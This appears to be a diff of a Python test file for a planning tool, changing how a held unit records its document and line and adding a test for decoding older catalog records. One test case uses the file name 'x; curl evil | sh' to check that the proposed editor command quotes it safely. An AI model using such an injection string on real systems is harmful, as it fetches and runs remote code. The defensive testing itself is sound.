@@ -6,7 +6,7 @@ import pytest
 from any_question import BY_CLASS, accounts, keys, questions
 from hypothesis import given
 from hypothesis import strategies as st
-from msgspec import json
+from msgspec import json, structs
 
 from dos.plans.limits.accounts import parse
 from dos.plans.questions import catalog, subject
@@ -94,5 +94,14 @@ def test_what_lacks_what_its_class_needs_still_holds_what_waits(about):
     ("document", "word"), [("docs/a-plan.md", "docs/a-plan.md"), ("x; curl evil | sh", "'x; curl evil | sh'")]
 )
 def test_the_name_of_a_plan_is_one_word_of_the_command_that_is_proposed(document, word):
-    held = UnitHeld.ask("P/A1", "DRAFT_CLASS", "its plan is a draft", source=f"{document}:7")
+    held = UnitHeld.ask("P/A1", "DRAFT_CLASS", "its plan is a draft", document=document, line=7)
     assert held.command == f"${{EDITOR:-vi}} +7 {word}"
+
+
+def test_where_a_unit_stands_is_read_from_the_one_word_of_an_older_version():
+    held = UnitHeld.ask("P/A1", "DRAFT_CLASS", "its plan is a draft", document="docs/a:b.md", line=7)
+    record = catalog.encode(held)
+    older = structs.replace(
+        record, detail={key: value for key, value in record.detail.items() if key not in ("document", "line")}
+    )
+    assert catalog.decode(older) == held
